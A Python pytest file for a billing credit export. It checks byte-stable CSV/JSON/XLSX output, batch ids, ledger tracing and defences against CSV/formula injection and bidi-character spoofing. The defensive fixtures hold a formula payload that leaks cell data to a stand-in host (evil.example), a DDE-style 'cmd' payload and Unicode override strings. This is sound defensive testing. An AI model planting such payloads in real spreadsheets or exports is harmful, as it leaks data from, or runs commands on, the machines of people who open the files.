"""The finance export: byte-stable CSV / JSON / XLSX, batch ids, the ledger record."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from datetime import date, datetime, timedelta

import pytest
from sqlalchemy import text

from billing.credits import apply_credit
from billing.errors import ExportRefused
from billing.export import COLUMNS, export_credits
from tests.billing.conftest import AFTER_Y1, add_contract, counts, failures, ingest_records
from yoco.database import unit_of_work


@pytest.fixture
def credits(engine, close) -> None:
    """Two credits: C-1 (USD, 8 of 9) and C-2 (KWD 10.002 -> 2.501)."""
    add_contract(engine, "C-1", customer='Acme, Inc. "AI"')
    add_contract(engine, "C-2", currency="KWD", annual_value="10.002")
    ingest_records(engine, failures("C-1", resolved=8, unresolved=1)[0])
    ingest_records(engine, failures("C-2", unresolved=1)[0])
    close("C-1")
    close("C-2", now=AFTER_Y1 + timedelta(days=1))


def _export(engine, fmt: str, **kw):
    with unit_of_work(engine) as s:
        return export_credits(s, fmt, now=datetime.now().astimezone(), **kw)


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_re_exporting_gives_identical_bytes_and_the_same_batch_id(engine, credits, fmt):
    a = _export(engine, fmt)
    b = _export(engine, fmt)
    assert a.data == b.data and a.batch_id == b.batch_id and a.row_count == 2
    assert a.sha256 == hashlib.sha256(a.data).hexdigest()
    assert a.recorded and not b.recorded  # recorded once
    with engine.connect() as c:
        row = c.execute(
            text("SELECT batch_id, row_count, sha256, format, selection FROM billing_exports")
        ).one()
        assert row[:4] == (a.batch_id, 2, a.sha256, fmt)
        kind = c.execute(
            text("SELECT kind FROM journal_entries WHERE event_id = :e"), {"e": a.event_id}
        ).scalar_one()
    assert kind == "export"


def test_csv_rows_trace_to_the_ledger(engine, credits):
    r = _export(engine, "csv")
    rows = list(csv.DictReader(io.StringIO(r.data.decode())))
    assert tuple(rows[0]) == COLUMNS
    first, second = rows
    assert first["credit_note"] == "CN-C-1-Y1" and first["customer_name"] == 'Acme, Inc. "AI"'
    assert first["credit_amount"] == "250000.00" and first["credit_minor_units"] == "25000000"
    assert first["resolution_rate"] == "0.888889" and first["threshold_percent"] == "90"
    assert first["period_start"] == "2025-01-01" and first["period_end"] == "2025-12-31"
    assert first["covered_failures"] == "9" and first["resolved_failures"] == "8"
    assert first["issue_date"] == "2026-02-01" and first["status"] == "issued"
    assert first["remaining_balance"] == "250000.00" and first["applied_amount"] == "0.00"
    assert second["credit_amount"] == "2.501" and second["currency"] == "KWD"
    assert {x["export_batch_id"] for x in rows} == {r.batch_id}
    with engine.connect() as c:
        for row in rows:
            leaf = c.execute(
                text(
                    "SELECT encode(leaf_hash, 'hex'), kind FROM journal_entries WHERE event_id = :e"
                ),
                {"e": row["credit_id"]},
            ).one()
            assert leaf == (row["ledger_entry_hash"], "credit")


def test_a_changed_credit_or_selection_changes_the_batch_id(engine, credits):
    base = _export(engine, "json")
    only_usd = _export(engine, "json", contract_id="C-1")
    assert only_usd.batch_id != base.batch_id and only_usd.row_count == 1
    with unit_of_work(engine) as s:
        apply_credit(
            s,
            "CN-C-1-Y1",
            invoice_ref="INV-1",
            invoice_amount="1000.00",
            applied_on=date(2026, 3, 1),
        )
    after = _export(engine, "json")
    assert after.batch_id != base.batch_id
    doc = json.loads(after.data)
    assert doc["rows"][0]["status"] == "partially_applied"
    assert doc["rows"][0]["remaining_balance"] == "249000.00"
    partial = _export(engine, "json", statuses=["partially_applied"])
    assert partial.row_count == 1
    assert _export(engine, "json", since=date(2026, 2, 2)).row_count == 1
    assert _export(engine, "json", since=date(2026, 3, 1)).row_count == 0


def test_xlsx_has_typed_cells_a_header_and_frozen_panes(engine, credits):
    from openpyxl import load_workbook

    r = _export(engine, "xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    assert [c.value for c in ws[1]] == list(COLUMNS)
    assert ws.freeze_panes == "D2"
    col = {name: i + 1 for i, name in enumerate(COLUMNS)}
    issue = ws.cell(row=2, column=col["issue_date"])
    assert issue.is_date and issue.value.date() == date(2026, 2, 1)
    amount = ws.cell(row=2, column=col["credit_amount"])
    assert amount.value == 250000 and amount.number_format == "#,##0.00"
    kwd = ws.cell(row=3, column=col["credit_amount"])
    assert float(kwd.value) == 2.501 and kwd.number_format == "#,##0.000"
    assert ws.cell(row=2, column=col["credit_minor_units"]).value == 25_000_000


def test_bad_export_requests_are_refused_and_record_nothing(engine, credits):
    before = counts(engine, "billing_exports")
    with pytest.raises(ExportRefused, match="format"):
        _export(engine, "pdf")
    with pytest.raises(ExportRefused, match="status"):
        _export(engine, "csv", statuses=["paid"])
    assert counts(engine, "billing_exports") == before


HOSTILE_CUSTOMER = '=HYPERLINK("http://evil.example/leak?"&A2,"click")'


@pytest.fixture
def hostile_credits(engine, close) -> None:
    """A hostile tenant's export: credits whose customer name and contract ids start with formula
    characters (=, +, -, @, TAB)."""
    add_contract(engine, "+C-1", customer=HOSTILE_CUSTOMER)
    add_contract(engine, "@C-2", customer="@SUM(1+1)*cmd|' /C calc'!A0")
    add_contract(engine, "-C-3", customer="+1+2")
    for cid in ("+C-1", "@C-2", "-C-3"):
        ingest_records(engine, failures(cid, unresolved=1)[0])
        close(cid)


def test_no_export_cell_can_run_as_a_formula(engine, hostile_credits):
    """OWASP CSV injection: every text cell starting with = + - @ TAB CR is prefixed with
    a single quote in the CSV and the XLSX (and the XLSX stores it as a string, never a
    formula); the JSON keeps the exact text; numbers are untouched."""
    from openpyxl import load_workbook

    from billing.export import spreadsheet_text

    rows = list(csv.DictReader(io.StringIO(_export(engine, "csv").data.decode())))
    assert {r["customer_name"] for r in rows} == {
        "'" + HOSTILE_CUSTOMER, "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+2"}
    assert {r["contract_id"] for r in rows} == {"'+C-1", "'@C-2", "'-C-3"}
    for r in rows:
        for value in r.values():
            assert not value or value[0] not in "=+-@\t\r", r
    ws = load_workbook(io.BytesIO(_export(engine, "xlsx").data)).active
    col = {name: i + 1 for i, name in enumerate(COLUMNS)}
    for row in range(2, ws.max_row + 1):
        for name in COLUMNS:
            cell = ws.cell(row=row, column=col[name])
            assert cell.data_type != "f", (name, cell.value)
        assert ws.cell(row=row, column=col["customer_name"]).data_type == "s"
        assert str(ws.cell(row=row, column=col["contract_id"]).value).startswith("'")
        assert isinstance(ws.cell(row=row, column=col["credit_minor_units"]).value, int)
    doc = json.loads(_export(engine, "json").data)
    assert HOSTILE_CUSTOMER in {r["customer_name"] for r in doc["rows"]}
    assert spreadsheet_text("Acme") == "Acme" and spreadsheet_text("") == ""
    assert spreadsheet_text("\rx") == "'\rx" and spreadsheet_text("\uff1dSUM(1)") == "'\uff1dSUM(1)"


RLO, LRI, RLM, ZWSP, FSI, PDI = "\u202e", "\u2066", "\u200f", "\u200b", "\u2068", "\u2069"
BIDI_CUSTOMER = f"Acme{ZWSP} {RLM}{RLO}Labs"
BIDI_CID = f"C-{LRI}{RLO}evil{ZWSP}"


def test_export_text_cells_are_bidi_isolates(engine, close):
    """A customer name and contract id holding an override, an isolate
    left open, a right-to-left mark and a zero-width space are bidi isolates in the CSV
    and the XLSX (the override cannot reverse the rest of the row read as text; the open
    isolate is closed); a formula trigger still gets its quote first; the JSON keeps the
    exact text; plain cells are unchanged."""
    from openpyxl import load_workbook

    from billing.export import spreadsheet_text

    add_contract(engine, BIDI_CID, customer=BIDI_CUSTOMER)
    add_contract(engine, "C-PLAIN", customer="=cmd" + RLO)
    for cid in (BIDI_CID, "C-PLAIN"):
        ingest_records(engine, failures(cid, unresolved=1)[0])
        close(cid)
    want_customer = f"{FSI}Acme{ZWSP} {RLM}{RLO}Labs{PDI}"
    want_cid = f"{FSI}C-{LRI}{RLO}evil{ZWSP}{PDI}{PDI}"

    raw = _export(engine, "csv").data.decode()
    rows = {r["credit_note"]: r for r in csv.DictReader(io.StringIO(raw))}
    bidi = rows[f"{FSI}CN-C-{LRI}{RLO}evil{ZWSP}-Y1{PDI}{PDI}"]
    assert bidi["customer_name"] == want_customer and bidi["contract_id"] == want_cid
    plain = rows["CN-C-PLAIN-Y1"]
    assert plain["contract_id"] == "C-PLAIN"
    assert plain["customer_name"] == f"'{FSI}=cmd{RLO}{PDI}"  # the quote stays first
    # Read as text, every line of the CSV closes every isolate it opens.
    for line in raw.splitlines():
        assert line.count(FSI) + line.count(LRI) == line.count(PDI), line

    ws = load_workbook(io.BytesIO(_export(engine, "xlsx").data)).active
    col = {name: i + 1 for i, name in enumerate(COLUMNS)}
    cells = {ws.cell(row=r, column=col["contract_id"]).value:
             ws.cell(row=r, column=col["customer_name"]).value
             for r in range(2, ws.max_row + 1)}
    assert cells == {want_cid: want_customer, "C-PLAIN": f"'{FSI}=cmd{RLO}{PDI}"}

    doc = json.loads(_export(engine, "json").data)
    assert {r["contract_id"]: r["customer_name"] for r in doc["rows"]} == {
        BIDI_CID: BIDI_CUSTOMER, "C-PLAIN": "=cmd" + RLO}
    assert spreadsheet_text("Acme, Inc.") == "Acme, Inc."
